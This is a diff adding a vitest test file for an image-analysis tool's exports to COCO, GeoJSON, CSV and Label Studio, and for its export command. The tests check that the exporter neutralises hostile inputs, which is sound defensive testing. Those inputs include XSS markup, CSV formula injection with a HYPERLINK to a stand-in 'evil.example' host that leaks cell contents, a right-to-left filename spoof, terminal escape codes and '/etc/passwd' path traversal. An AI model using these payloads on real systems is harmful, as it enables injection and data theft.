@@ -1,0 +1,518 @@
+import { readdir, readFile } from 'node:fs/promises';
+import { basename, dirname, join } from 'node:path';
+import { check } from '@placemarkio/check-geojson';
+import { Ajv } from 'ajv';
+import fc from 'fast-check';
+import sharp from 'sharp';
+import { describe, expect, test } from 'vitest';
+import { z } from 'zod';
+import { EXPORT_FILES, ExportFormat } from '../../../pipeline/contract/export-format.ts';
+import { keys } from '../../../pipeline/contract/keys.ts';
+import { Box, type Finding, type FindingsDocument } from '../../../pipeline/contract/schemas.ts';
+import { NO_USAGE } from '../../../pipeline/contract/usage.ts';
+import { exportPieces } from '../../../pipeline/findings/exports/index.ts';
+import { COCO_SCHEMA } from '../../support/coco-schema.ts';
+import { runCommand, startCommand } from '../../support/command.ts';
+import { cellsWithoutQuotes, csvRows } from '../../support/csv-rows.ts';
+import { temporaryFolder } from '../../support/folder.ts';
+import { LABEL_STUDIO_SCHEMA } from '../../support/label-studio-schema.ts';
+import { pipelineStage, requestFor } from '../../support/pipeline-run.ts';
+import { scriptedVision, seen } from '../../support/scripted-vision.ts';
+import { ends, finding, serverAndClient, started } from '../../support/tool-calls.ts';
+
+const STARTED_AT = '2026-03-01T10:20:30.000Z';
+const IMAGE = { uri: 's3://plans/site%20plan.jpg', width: 4_000, height: 3_000, format: 'jpeg', version: '1' };
+const COLUMNS = 'id,label,score,severity,x,y,width,height,level,verified,text,description'.split(',');
+
+const CONTENT_TYPES: Record<ExportFormat, string> = {
+  coco: 'application/json',
+  geojson: 'application/geo+json',
+  csv: 'text/csv; charset=utf-8',
+  'label-studio': 'application/json',
+};
+
+const Coco = z.object({
+  images: z.array(z.record(z.string(), z.unknown())),
+  categories: z.array(z.object({ id: z.number(), name: z.string() })),
+  annotations: z.array(
+    z.object({
+      id: z.number(),
+      finding_id: z.string(),
+      category_id: z.number(),
+      bbox: Box,
+      area: z.number(),
+      score: z.number(),
+      text: z.string().nullable(),
+      description: z.string(),
+    }),
+  ),
+});
+const GeoJson = z.object({
+  space: z.string(),
+  features: z.array(
+    z.object({
+      id: z.string(),
+      geometry: z.object({ coordinates: z.array(z.array(z.tuple([z.number(), z.number()]))) }),
+      properties: z.object({ label: z.string(), text: z.string().nullable(), description: z.string() }),
+    }),
+  ),
+});
+const Region = z.object({
+  id: z.string(),
+  value: z.object({
+    x: z.number(),
+    y: z.number(),
+    width: z.number(),
+    height: z.number(),
+    rectanglelabels: z.tuple([z.string()]),
+  }),
+  meta: z.object({ text: z.tuple([z.string()]) }),
+});
+const Task = z.object({
+  data: z.object({ image: z.string(), labels: z.array(z.object({ value: z.string() })) }),
+  predictions: z.tuple([z.object({ score: z.number().optional(), result: z.array(Region) })]),
+});
+
+function documentOf(findings: Finding[], image = IMAGE): FindingsDocument {
+  const { ask, plan, models, execution_id } = requestFor('');
+  const tiles = { total: 1, done: 1, blank: 0, failed: [] };
+  return {
+    execution_id,
+    status: 'SUCCEEDED',
+    image,
+    request: { ask, plan },
+    models,
+    tiles,
+    usage: NO_USAGE,
+    summary: '',
+    notes: [],
+    findings,
+  };
+}
+
+function exported(format: ExportFormat, document: FindingsDocument, imageUrl: string | null = null): string {
+  return [...exportPieces(format, { document, startedAt: STARTED_AT, imageUrl })].join('');
+}
+
+const cocoOf = (document: FindingsDocument) => Coco.parse(JSON.parse(exported('coco', document)));
+const geoJsonOf = (document: FindingsDocument) => GeoJson.parse(JSON.parse(exported('geojson', document)));
+const taskOf = (document: FindingsDocument) => z.tuple([Task]).parse(JSON.parse(exported('label-studio', document)))[0];
+const rowsOf = (document: FindingsDocument) => csvRows(exported('csv', document).slice(1));
+
+function validAs(schema: object, json: string): void {
+  const ajv = new Ajv({ allErrors: true });
+  const valid = ajv.validate(schema, JSON.parse(json));
+  expect(valid ? [] : ajv.errors).toEqual([]);
+}
+
+/** From whole images to boxes without a size, in tenths of a pixel as the pipeline has them. */
+const boxes = fc
+  .tuple(...[IMAGE.width, IMAGE.height, IMAGE.width, IMAGE.height].map((max) => fc.integer({ min: 0, max: max * 10 })))
+  .map(([left = 0, top = 0, right = 0, bottom = 0]): Box => {
+    const [x, y] = [Math.min(left, right), Math.min(top, bottom)];
+    return [x / 10, y / 10, Math.abs(right - left) / 10, Math.abs(bottom - top) / 10];
+  });
+
+/** Any sequence of UTF-16 units, half characters among them, and what makes formulas, cells and rows. */
+const words = fc
+  .array(
+    fc.oneof(
+      fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)),
+      fc.constantFrom(...'=+-@;,"\t\r\n \'＝'),
+      fc.constant('=A1'),
+    ),
+  )
+  .map((parts) => parts.join(''));
+
+const findings = fc
+  .array(
+    fc.record({
+      ...{ label: words, description: words, text: fc.option(words), box: boxes },
+      score: fc.double({ min: 0, max: 1, noNaN: true }),
+      severity: fc.constantFrom('info' as const, 'critical' as const),
+      verified: fc.constantFrom(null, 'confirmed' as const, 'rejected' as const, 'corrected' as const),
+    }),
+    { maxLength: 20 },
+  )
+  .map((all) => all.map((fields, index) => finding(index, fields)));
+
+describe('every export', () => {
+  test('has the findings that were not rejected, in their order, with their boxes', () => {
+    fc.assert(
+      fc.property(findings, (all) => {
+        const document = documentOf(all);
+        const kept = all.filter(({ verified }) => verified !== 'rejected');
+        const ids = kept.map(({ id }) => id);
+        const expected = kept.map(({ box }) => box);
+
+        const { annotations } = cocoOf(document);
+        expect(annotations.map(({ finding_id }) => finding_id)).toEqual(ids);
+        expect(annotations.map(({ bbox }) => bbox)).toEqual(expected);
+
+        const [head, ...rows] = rowsOf(document);
+        expect(head).toEqual(COLUMNS);
+        expect(rows.map(([id]) => id)).toEqual(ids);
+        expect(rows.map((row) => row.slice(4, 8).map(Number))).toEqual(expected);
+
+        const { features } = geoJsonOf(document);
+        expect(features.map(({ id }) => id)).toEqual(ids);
+        expectClose(
+          features.map(({ geometry }) => boxAround(geometry.coordinates[0] ?? [])),
+          expected,
+        );
+
+        const regions = taskOf(document).predictions[0].result;
+        expect(regions.map(({ id }) => id)).toEqual(ids);
+        const { width, height } = IMAGE;
+        const inPixels = regions.map(
+          ({ value }): Box => [
+            ...([(value.x * width) / 100, (value.y * height) / 100] as const),
+            ...([(value.width * width) / 100, (value.height * height) / 100] as const),
+          ],
+        );
+        expectClose(inPixels, expected);
+      }),
+    );
+  });
+
+  test('is valid in its format, whatever was found', () => {
+    fc.assert(
+      fc.property(findings, (all) => {
+        const document = documentOf(all);
+        validAs(COCO_SCHEMA, exported('coco', document));
+        validAs(LABEL_STUDIO_SCHEMA, exported('label-studio', document));
+        expect(() => check(exported('geojson', document))).not.toThrow();
+        for (const row of rowsOf(document)) expect(row).toHaveLength(COLUMNS.length);
+      }),
+    );
+  });
+
+  test('is valid without findings, and with more than one piece of them', () => {
+    for (const count of [0, 1, 500, 501, 1_700]) {
+      const document = documentOf(Array.from({ length: count }, (_, index) => finding(index)));
+      expect(cocoOf(document).annotations).toHaveLength(count);
+      expect(geoJsonOf(document).features).toHaveLength(count);
+      expect(taskOf(document).predictions[0].result).toHaveLength(count);
+      expect(rowsOf(document)).toHaveLength(count + 1);
+      validAs(LABEL_STUDIO_SCHEMA, exported('label-studio', document));
+    }
+  });
+
+  function boxAround(ring: readonly (readonly [number, number])[]): Box {
+    const [xs, ys] = [ring.map(([x]) => x), ring.map(([, y]) => y)];
+    const [left, top] = [Math.min(...xs), Math.min(...ys)];
+    return [left, top, Math.max(...xs) - left, Math.max(...ys) - top];
+  }
+
+  function expectClose(got: readonly Box[], expected: readonly Box[]): void {
+    const off = got.flat().map((side, index) => Math.abs(side - (expected.flat()[index] ?? Number.NaN)));
+    expect(got).toHaveLength(expected.length);
+    expect(off.every((pixels) => pixels < 1e-6)).toBe(true);
+  }
+});
+
+describe('words from an image', () => {
+  const hostile: [name: string, words: string][] = [
+    ['markup', '<img src=x onerror="alert(1)">'],
+    ['the end of a script', '</script><script>alert(1)</script>'],
+    ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
+    ['10,000 characters', 'wide '.repeat(2_000)],
+    ['10,000 line breaks', '\n'.repeat(10_000)],
+    ['letters from right to left', 'مخرج الطوارئ'],
+    ['an override of direction', 'invoice\u202Efdp.exe'],
+    ['control characters', 'a\u0000b\u001B[2Jc\u009B31md\u007F\b'],
+    ['half characters', 'a\uD800b\uDC00'],
+    ['commas, quotes and line breaks', 'a,"b"\r\nc,d\n"'],
+    ['emoji', '👩‍🚒 fire ⚠️'],
+  ];
+
+  test.each(hostile)('%s are the same words in JSON, and nothing steers whoever prints it', (_, said) => {
+    const document = documentOf([finding(1, { label: said, description: said, text: said }), finding(2)]);
+    const words = said.toWellFormed();
+    const coco = cocoOf(document);
+    const { category_id, text, description } = coco.annotations[0] ?? expect.fail();
+    expect([coco.categories.find(({ id }) => id === category_id)?.name, text, description]).toEqual([words, words, words]);
+    expect(geoJsonOf(document).features[0]?.properties).toMatchObject({ label: words, text: words, description: words });
+    const task = taskOf(document);
+    const region = task.predictions[0].result[0];
+    expect(task.data.labels.map(({ value }) => value).sort()).toEqual(['person', words].sort());
+    expect(region?.value.rectanglelabels).toEqual([words]);
+    expect(region?.meta.text).toEqual([`Severity: info\n${words}\nText: ${words}`]);
+    for (const format of ['coco', 'geojson', 'label-studio'] as const) {
+      expect(exported(format, document).replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cs}\u2028-\u202E\u2066-\u2069]/u);
+    }
+  });
+
+  test.each(hostile)('%s stay in their cell of the table', (_, said) => {
+    const document = documentOf([finding(1, { label: said, description: said, text: said }), finding(2)]);
+    const [, row = [], next = []] = rowsOf(document);
+    const [label = '', text, description] = [row[1], row[10], row[11]];
+    expect([row.length, text, description, next[0], next.length]).toEqual([12, label, label, 'f2', 12]);
+    expect(label.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cs}\u202A-\u202E\u2066-\u2069]/u);
+    const kept = (words: string) => words.toWellFormed().replace(/[^\p{L}\p{N}\p{P}\p{S}]|\uFFFD/gu, '');
+    expect(kept(label).replaceAll("'", '')).toBe(kept(said.replace(/[\p{Cc}]/gu, '')).replaceAll("'", ''));
+  });
+
+  test('are the same in the table where they are harmless', () => {
+    const harmless = [
+      'PUMP 3=off',
+      'a - b',
+      'x@y.example',
+      'two\nlines',
+      'a,b',
+      'say "hi"',
+      '5;6',
+      "it's",
+      '€ 5',
+      '標識',
+      'a;b c=d',
+    ];
+    const document = documentOf(harmless.map((text, index) => finding(index, { text })));
+    expect(
+      rowsOf(document)
+        .slice(1)
+        .map((row) => row[10]),
+    ).toEqual(harmless);
+  });
+
+  const formulas = [
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠1',
+    ' =1',
+    '"=1',
+    '\u200B=1',
+    'a;=1',
+    'a;"=1',
+    'a\n=1',
+    'a\r\n+1',
+    'a; \u00A0-1',
+  ];
+  test.each(formulas)('%j starts no formula, in any cell that a spreadsheet could see in it', (said) => {
+    const text = exported('csv', documentOf([finding(1, { id: said, label: said, description: said, text: said })]));
+    const cells = rowsOf(documentOf([finding(1, { id: said, label: said, description: said, text: said })])).flat();
+    const outsideQuotes = cellsWithoutQuotes(text).map((cell) => cell.replace(/^[\s"\p{Cf}]+/u, ''));
+    expect([...cells, ...outsideQuotes].filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    expect(cells.join('')).toContain("'");
+  });
+
+  test('start no formula, whatever they are', () => {
+    fc.assert(
+      fc.property(findings, (all) => {
+        const cells = rowsOf(documentOf(all)).flatMap((row) => [row[0], row[1], row[10], row[11]]);
+        const starts = cells.flatMap((cell = '') => cell.split(/[;\n]/)).map((part) => part.replace(/^[\s"\uFFFD\p{Cf}]+/u, ''));
+        expect(starts.filter((part) => /^[=+\-@＝＋－＠]/.test(part))).toEqual([]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('COCO', () => {
+  test('ids are the same whatever was rejected, and the same labels have the same ids in any order', () => {
+    const [a, b, c] = [finding(1, { label: 'cup' }), finding(2, { label: 'person' }), finding(3, { label: 'cat' })];
+    const all = cocoOf(documentOf([a, b, c]));
+    expect(all.categories).toMatchObject([
+      { id: 1, name: 'cat' },
+      { id: 2, name: 'cup' },
+      { id: 3, name: 'person' },
+    ]);
+    expect(all.annotations.map(({ id, category_id }) => [id, category_id])).toEqual([
+      [1, 2],
+      [2, 3],
+      [3, 1],
+    ]);
+    expect(cocoOf(documentOf([c, b, a])).categories).toEqual(all.categories);
+    const without = cocoOf(documentOf([{ ...a, verified: 'rejected' }, b, c]));
+    expect(without.annotations.map(({ id }) => id)).toEqual([2, 3]);
+  });
+
+  test.each([
+    ['s3://plans/2026/site%20plan.jpg', 'site plan.jpg'],
+    ['https://example.org/a/b.png?token=1', 'b.png'],
+    ['https://example.org', 'example.org'],
+    ['upload://abc123', 'abc123'],
+    ['file:///C:/plans/..%2F..%2Fetc%2Fpasswd', 'passwd'],
+    ['100%.jpg', '100%.jpg'],
+    ['', 'picture'],
+  ])('the image %j is the file %j', (uri, file) => {
+    const [image] = cocoOf(documentOf([], { ...IMAGE, uri })).images;
+    expect(image).toMatchObject({ id: 1, width: 4_000, height: 3_000, file_name: file, uri });
+    expect(image?.coco_url).toBe(uri.startsWith('https:') ? uri : undefined);
+  });
+
+  test('the area is that of the box', () => {
+    const { annotations } = cocoOf(documentOf([finding(1, { box: [1, 2, 30.5, 10] })]));
+    expect(annotations[0]?.area).toBe(305);
+  });
+});
+
+describe('GeoJSON', () => {
+  test('says its space, and rings are closed and counter-clockwise by their numbers', () => {
+    fc.assert(
+      fc.property(boxes, (box) => {
+        const { space, features } = geoJsonOf(documentOf([finding(1, { box })]));
+        expect(space).toBe('pixels of the upright full image, y down');
+        const ring = features[0]?.geometry.coordinates[0] ?? [];
+        expect(ring).toHaveLength(5);
+        expect(ring[4]).toEqual(ring[0]);
+        const doubleArea = ring
+          .slice(1)
+          .reduce((sum, [x, y], index) => sum + (ring[index]?.[0] ?? 0) * y - x * (ring[index]?.[1] ?? 0), 0);
+        expect(doubleArea / 2).toBeCloseTo(box[2] * box[3], 2); // a clockwise one has a negative area
+      }),
+    );
+  });
+});
+
+describe('Label Studio', () => {
+  test('gets no number over 100, for which it would refuse the whole task', () => {
+    const document = documentOf([finding(1, { box: [3_999, 0, 9_000, 3_000.1] })]);
+    validAs(LABEL_STUDIO_SCHEMA, exported('label-studio', document));
+  });
+
+  test('finds the image where the caller had named it, or where somebody says', () => {
+    const document = documentOf([finding(1), finding(2, { score: 0.5 })]);
+    expect(taskOf(document).data.image).toBe(IMAGE.uri);
+    expect(taskOf(document).predictions[0].score).toBe(0.7);
+    expect(exported('label-studio', document, 'https://cdn.example/plan.jpg')).toContain(
+      '"image":"https://cdn.example/plan.jpg"',
+    );
+  });
+});
+
+test('every execution stores its exports, which are the same when they are made again', async () => {
+  const image = join(await temporaryFolder(), 'grey.jpg');
+  const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const;
+  await sharp({ create: { width: 300, height: 200, channels: 3, background: '#777', noise } }).toFile(image);
+  const stage = await pipelineStage();
+  const vision = scriptedVision({ detect: () => [seen('cat', [10, 10, 50, 50], { text: '=A1' })] });
+  const { document, progress, files } = await stage.run(requestFor(image), vision);
+  if (!document) expect.fail('Expected findings.');
+  expect(document.findings.length).toBeGreaterThan(0);
+  for (const format of ExportFormat.options) {
+    const stored = await stage.deps.blobs.get(keys.export(document.execution_id, format));
+    const again = [...exportPieces(format, { document, startedAt: progress.started_at, imageUrl: null })].join('');
+    expect(Buffer.from(stored ?? []).toString()).toBe(again);
+  }
+  expect(files.filter((file) => file.startsWith('scratch'))).toEqual([]);
+});
+
+describe('the report of an execution', () => {
+  test('links the exports that are stored, and each link gives its file', async () => {
+    const { server, client } = await serverAndClient({ script: ends([finding(1)]) });
+    const { execution_id } = await started(server, client);
+    const { execution_id: other } = await started(server, client, { idempotency_key: 'other' });
+    const none = await client.readResource(`tilesight://executions/${other}`);
+    expect(none.text).not.toMatch(/coco|csv|geojson|label-studio/);
+    for (const format of ExportFormat.options) await server.blobs.put(keys.export(execution_id, format), Buffer.from(format));
+    const { text = '' } = await client.readResource(`tilesight://executions/${execution_id}`);
+    for (const format of ExportFormat.options) {
+      const link = text
+        .split('\n')
+        .find((line) => line.startsWith(`- ${EXPORT_FILES[format]}: `))
+        ?.split(': ')[1];
+      const response = await server.fetch(link ?? '');
+      expect(await response.text()).toBe(format);
+      expect(response.headers.get('content-type')).toBe(CONTENT_TYPES[format]);
+    }
+  });
+});
+
+describe('tilesight export', () => {
+  /** Of a version that stored no exports. */
+  async function earlier(all: Finding[]): Promise<{ data: string; id: string; document: FindingsDocument; startedAt: string }> {
+    const { server, client } = await serverAndClient({ script: ends(all) });
+    const { execution_id: id } = await started(server, client);
+    const read = async (key: string) => JSON.parse(Buffer.from((await server.blobs.get(key)) ?? []).toString());
+    const { started_at: startedAt } = await read(keys.progress(id));
+    return { data: server.folder, id, document: await read(keys.findings(id)), startedAt };
+  }
+
+  test.each(ExportFormat.options)('prints an earlier analysis as %s, and writes it to a file', async (format) => {
+    const { data, id, document, startedAt } = await earlier([finding(1), finding(2, { text: 'größer' })]);
+    const expected = [...exportPieces(format, { document, startedAt, imageUrl: null })].join('');
+    const printed = await runCommand(['export', id, '--format', format, '--data', data]);
+    expect(printed).toMatchObject({ code: 0, stdout: expected, stderr: '', left: [] });
+
+    const out = join(await temporaryFolder(), 'new', 'file');
+    const written = await runCommand(['export', id, '--format', format, '--out', out], { TILESIGHT_HOME: data });
+    expect(written).toMatchObject({ code: 0, stdout: `Wrote ${out}.\n`, stderr: '' });
+    expect(await readFile(out, 'utf8')).toBe(expected);
+    expect(await readdir(dirname(out))).toEqual(['file']);
+  });
+
+  test('names another link of the image to Label Studio', async () => {
+    const { data, id } = await earlier([finding(1)]);
+    const link = 'https://cdn.example/plan.jpg';
+    const { stdout } = await runCommand(['export', id, '--format', 'label-studio', '--image-url', link, '--data', data]);
+    expect(JSON.parse(stdout)).toMatchObject([{ data: { image: link } }]);
+  });
+
+  test('ends quietly when nobody reads on', async () => {
+    const { data, id } = await earlier(Array.from({ length: 5_000 }, (_, index) => finding(index)));
+    const running = await startCommand(['export', id, '--format', 'geojson', '--data', data]);
+    running.process.stdout?.destroy();
+    expect(await running.outcome).toMatchObject({ code: 0, stdout: '', stderr: '' });
+  });
+
+  const refusals: [name: string, args: (id: string, data: string) => string[], sentence: RegExp][] = [
+    [
+      'an execution that is not there',
+      (_, data) => ['gone', '--format', 'csv', '--data', data],
+      /got "gone", which is not there\. Use an execution_id that analyze_image returned/,
+    ],
+    [
+      'a path for an id',
+      (id, data) => [`../executions/${id}`, '--format', 'csv', '--data', data],
+      /^tilesight: Expected an execution in .*, got "\.\.\/executions/,
+    ],
+    [
+      'a data folder that is not there',
+      (id, data) => [id, '--format', 'csv', '--data', join(data, 'none')],
+      /Expected an execution in .*none, got/,
+    ],
+    [
+      'an unknown format',
+      (id, data) => [id, '--format', 'xlsx', '--data', data],
+      /Allowed choices are coco, geojson, csv, label-studio/,
+    ],
+    [
+      'an option that would do nothing',
+      (id, data) => [id, '--format', 'csv', '--image-url', 'https://a.example/b', '--data', data],
+      /Expected --image-url only with --format label-studio, got it with csv/,
+    ],
+    [
+      'a place where no file can be',
+      (id, data) => [id, '--format', 'csv', '--out', data, '--data', data],
+      /Expected a place to write .*, got EISDIR/,
+    ],
+  ];
+  test.each(refusals)('refuses %s with one sentence', async (_, args, sentence) => {
+    const { data, id } = await earlier([finding(1)]);
+    const { code, stdout, stderr, left } = await runCommand(['export', ...args(id, data)]);
+    expect({ code, stdout, left }).toEqual({ code: 1, stdout: '', left: [] });
+    expect(stderr.split('\n')[0]).toMatch(sentence);
+    expect(stderr).not.toMatch(/\n {4}at /);
+    const beside = await readdir(dirname(data));
+    expect(beside.filter((name) => name.startsWith(basename(data)))).toEqual([basename(data)]);
+  });
+
+  test('says of an analysis that is not at its end that it has no findings yet', async () => {
+    const { server, client } = await serverAndClient({ script: async (run) => run.progress.phase('detect') });
+    const { execution_id } = await started(server, client);
+    await expect.poll(() => server.blobs.head(keys.progress(execution_id))).not.toBeNull();
+    const { code, stderr } = await runCommand(['export', execution_id, '--format', 'coco', '--data', server.folder]);
+    expect({ code, stderr }).toEqual({
+      code: 1,
+      stderr: `tilesight: Expected an execution with findings, got ${execution_id}, which is RUNNING. Wait for its end.\n`,
+    });
+  });
+});
